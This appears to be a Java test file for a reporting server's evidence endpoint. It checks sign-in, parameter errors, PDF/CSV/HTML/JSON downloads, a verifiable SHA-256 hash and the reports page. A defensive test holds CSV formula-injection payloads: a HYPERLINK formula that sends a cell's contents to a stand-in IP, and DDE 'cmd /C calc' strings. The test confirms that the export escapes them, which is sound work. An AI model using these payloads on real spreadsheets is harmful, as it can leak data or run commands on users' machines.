package org.enlace.server.evidence;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import org.apache.commons.csv.CSVParser;
import org.enlace.server.app.EnlaceConfiguration;
import org.enlace.server.app.cli.CommandRunner;
import org.enlace.server.testing.Api;
import org.enlace.server.testing.TestApp;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The evidence endpoint and the /reports page on the real application. The data behind the report
 * is the service's business: these tests hold for any report, an empty one included.
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class EvidenceApiTest {
  static final TestApp APP = TestApp.create();
  static final DropwizardAppExtension<EnlaceConfiguration> EXT = APP.extension();
  static Api reader;

  @BeforeAll
  static void setUp() throws Exception {
    String password = "lectura-secreta-123";
    new CommandRunner(APP)
        .run(
            new ByteArrayInputStream((password + "\n").getBytes(StandardCharsets.UTF_8)),
            "user",
            "add",
            "tesoreria",
            "--role",
            "administration",
            "--password-stdin");
    reader = APP.anonymous().as("tesoreria", password);
    APP.establishment("alcaldia", "administration");
  }

  static void assertInvalid(Api.Response r, String field) {
    assertThat(r.status()).as(r.toString()).isEqualTo(400);
    assertThat(r.body().get("error").asText()).isEqualTo("invalid_field");
    assertThat(r.body().get("field").asText()).isEqualTo(field);
    assertThat(r.body().get("message").asText()).startsWith(field + ": ");
  }

  @Test
  void signInIsRequired() {
    Api.Response r = APP.anonymous().get("/api/v1/evidence?period=2026-03&format=pdf");
    assertThat(r.status()).isEqualTo(401);
    assertThat(r.header("WWW-Authenticate")).startsWith("Basic");
    assertThat(APP.anonymous().get("/reports").status()).isEqualTo(401);
  }

  @Test
  void badParametersAreNamed() {
    assertInvalid(reader.get("/api/v1/evidence?format=pdf"), "period");
    assertInvalid(reader.get("/api/v1/evidence?period=2026-13"), "period");
    assertInvalid(reader.get("/api/v1/evidence?period=2026-Q5"), "period");
    assertInvalid(reader.get("/api/v1/evidence?period=marzo"), "period");
    assertInvalid(reader.get("/api/v1/evidence?period=2026-03&format=xlsx"), "format");
    assertInvalid(reader.get("/api/v1/evidence?period=2026-03&lang=fr"), "lang");
    assertInvalid(reader.get("/api/v1/evidence?period=2026-03&paper=a3"), "paper");
    assertInvalid(reader.get("/api/v1/evidence?period=2026-03&link=abc"), "link");
    assertInvalid(
        reader.get("/api/v1/evidence?period=2026-03&establishment=alcaldia&link=1"), "link");
  }

  @Test
  void pdfIsAnAttachment() {
    Api.Response r = reader.get("/api/v1/evidence?period=2026-03&format=pdf");
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    assertThat(r.header("Content-Type")).isEqualTo("application/pdf");
    assertThat(r.header("Content-Disposition"))
        .isEqualTo("attachment; filename=\"enlace-evidencia-2026-03.pdf\"");
    assertThat(new String(r.raw().body(), 0, 5, StandardCharsets.ISO_8859_1)).isEqualTo("%PDF-");
    assertThat(r.header("X-Enlace-Data-Sha256")).matches("[0-9a-f]{64}");
  }

  @Test
  void establishmentAndLetter() {
    Api.Response r =
        APP.it()
            .get(
                "/api/v1/evidence?period=2026-Q1&establishment=alcaldia&format=pdf&paper=letter&lang=en");
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    assertThat(r.header("Content-Disposition"))
        .isEqualTo("attachment; filename=\"enlace-evidencia-2026-Q1-alcaldia.pdf\"");
  }

  @Test
  void unknownEstablishmentIs404() {
    Api.Response r = reader.get("/api/v1/evidence?period=2026-03&establishment=no-existe");
    assertThat(r.status()).as(r.toString()).isEqualTo(404);
  }

  @Test
  void csvForExcel() throws Exception {
    Api.Response r = reader.get("/api/v1/evidence?period=2026&format=csv");
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    assertThat(r.header("Content-Type"))
        .startsWith("text/csv")
        .containsIgnoringCase("charset=UTF-8");
    assertThat(r.header("Content-Disposition"))
        .isEqualTo("attachment; filename=\"enlace-evidencia-2026.csv\"");
    byte[] body = r.raw().body();
    assertThat(body[0] & 0xff).isEqualTo(0xEF);
    try (CSVParser p =
        EvidenceCsv.format(EvidenceText.Lang.ES)
            .builder()
            .setHeader()
            .setSkipHeaderRecord(true)
            .get()
            .parse(
                new InputStreamReader(
                    new ByteArrayInputStream(body, 3, body.length - 3), StandardCharsets.UTF_8))) {
      assertThat(p.getHeaderNames()).startsWith("registro", "periodo", "sector");
      p.getRecords().forEach(rec -> assertThat(rec.size()).isEqualTo(EvidenceCsv.COLUMNS.size()));
    }
  }

  /**
   * Names people typed that a spreadsheet would run as formulas (issue 17) reach the CSV as text: a
   * leading single quote, the cell quoted; negative numbers stay numbers.
   */
  @Test
  void csvCellsThatLookLikeFormulasAreNeutralised() throws Exception {
    java.util.List<String> names =
        java.util.List.of(
            "=HYPERLINK(\"http://198.51.100.7/?leak=\"&A1,\"Ver detalle\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1");
    for (int i = 0; i < names.size(); i++) {
      Api.Response e =
          APP.it()
              .post(
                  "/api/v1/establishments",
                  Api.object()
                      .put("code", "formula-" + i)
                      .put("name", names.get(i))
                      .put("kind", "library")
                      .put("sector", "citizens"));
      assertThat(e.status()).as(e.toString()).isEqualTo(201);
      Api.Response l =
          APP.it()
              .post(
                  "/api/v1/establishments/formula-" + i + "/links",
                  Api.object()
                      .put("ispName", names.get(i))
                      .put("technology", names.get(names.size() - 1 - i))
                      .put("contractedDownMbps", 10)
                      .put("contractedUpMbps", 2));
      assertThat(l.status()).as(l.toString()).isEqualTo(201);
    }
    for (EvidenceText.Lang lang : EvidenceText.Lang.values()) {
      Api.Response r = reader.get("/api/v1/evidence?period=2026-03&format=csv&lang=" + lang.code());
      assertThat(r.status()).as(r.toString()).isEqualTo(200);
      byte[] body = r.raw().body();
      String text = new String(body, StandardCharsets.UTF_8);
      java.util.Set<String> seen = new java.util.HashSet<>();
      try (CSVParser p =
          EvidenceCsv.format(lang)
              .builder()
              .setHeader()
              .setSkipHeaderRecord(true)
              .get()
              .parse(
                  new InputStreamReader(
                      new ByteArrayInputStream(body, 3, body.length - 3),
                      StandardCharsets.UTF_8))) {
        for (var rec : p.getRecords()) {
          for (String cell : rec.values()) {
            // No cell a spreadsheet would evaluate.
            assertThat(cell).as(lang + " cell").doesNotContainPattern("^[=+@\t\r]");
            if (cell.startsWith("-")) {
              assertThat(cell).as(lang + " cell").matches("-[0-9]+([.,][0-9]+)?");
            }
            if (cell.startsWith("'")) {
              seen.add(cell.substring(1));
            }
          }
        }
      }
      assertThat(seen).as(lang.code()).containsAll(names);
      // Written quoted, the quote first inside: '=HYPERLINK(... never begins a bare cell.
      assertThat(text).contains("\"'=HYPERLINK(", "\"'@SUM(", "\"'+cmd", "\"'-2+3");
    }
    // Numbers, negative ones included, are left as they are, in both decimal styles.
    for (String n : java.util.List.of("-12,5", "-3", "-0.25", "12", "0", "sin datos", "")) {
      assertThat(EvidenceCsv.neutralised(n)).isEqualTo(n);
    }
    assertThat(EvidenceCsv.neutralised("-")).isEqualTo("'-");
    assertThat(EvidenceCsv.neutralised("-1-1")).isEqualTo("'-1-1");
    assertThat(EvidenceCsv.neutralised("--1")).isEqualTo("'--1");
  }

  @Test
  void htmlInline() {
    Api.Response r = reader.get("/api/v1/evidence?period=2026-03");
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    assertThat(r.header("Content-Type")).startsWith("text/html");
    assertThat(r.header("Content-Disposition")).startsWith("inline;");
    String html = new String(r.raw().body(), StandardCharsets.UTF_8);
    assertThat(html)
        .contains("lang=\"es-CO\"")
        .contains("marzo de 2026")
        .contains(r.header("X-Enlace-Data-Sha256"));
  }

  /** The check docs/evidencia.md describes: null the two fields in the download, hash it. */
  @Test
  void jsonCarriesAVerifiableHash() throws Exception {
    Api.Response r = reader.get("/api/v1/evidence?period=2026-03&format=json");
    assertThat(r.status()).as(r.toString()).isEqualTo(200);
    assertThat(r.header("Content-Type")).startsWith("application/json");
    JsonNode meta = r.body().get("meta");
    String sha = meta.get("dataSha256").asText();
    assertThat(sha).matches("[0-9a-f]{64}").isEqualTo(r.header("X-Enlace-Data-Sha256"));
    String json = new String(r.raw().body(), StandardCharsets.UTF_8);
    String blanked =
        json.replaceFirst("\"dataSha256\":\"[0-9a-f]{64}\"", "\"dataSha256\":null")
            .replaceFirst("\"generatedAt\":\"[^\"]*\"", "\"generatedAt\":null");
    assertThat(
            HexFormat.of()
                .formatHex(
                    MessageDigest.getInstance("SHA-256")
                        .digest(blanked.getBytes(StandardCharsets.UTF_8))))
        .isEqualTo(sha);
    // the same data an instant later: the same hash
    Api.Response again = reader.get("/api/v1/evidence?period=2026-03&format=pdf");
    assertThat(again.header("X-Enlace-Data-Sha256")).isEqualTo(sha);
  }

  @Test
  void reportsPage() {
    for (Api api : new Api[] {reader, APP.it()}) {
      Api.Response r = api.get("/reports");
      assertThat(r.status()).as(r.toString()).isEqualTo(200);
      assertThat(r.header("Content-Type")).startsWith("text/html");
      String html = new String(r.raw().body(), StandardCharsets.UTF_8);
      assertThat(html)
          .contains("<html lang=\"es-CO\">")
          .contains("<form id=\"evidence-form\" method=\"get\" action=\"api/v1/evidence\"")
          .contains("name=\"period\"")
          .contains("value=\"pdf\"")
          .contains("value=\"csv\"")
          .contains("Descargar PDF")
          .contains("href=\"reports?lang=en\"");
    }
    String en = new String(reader.get("/reports?lang=en").raw().body(), StandardCharsets.UTF_8);
    assertThat(en).contains("<html lang=\"en\">").contains("Download PDF");
  }
}
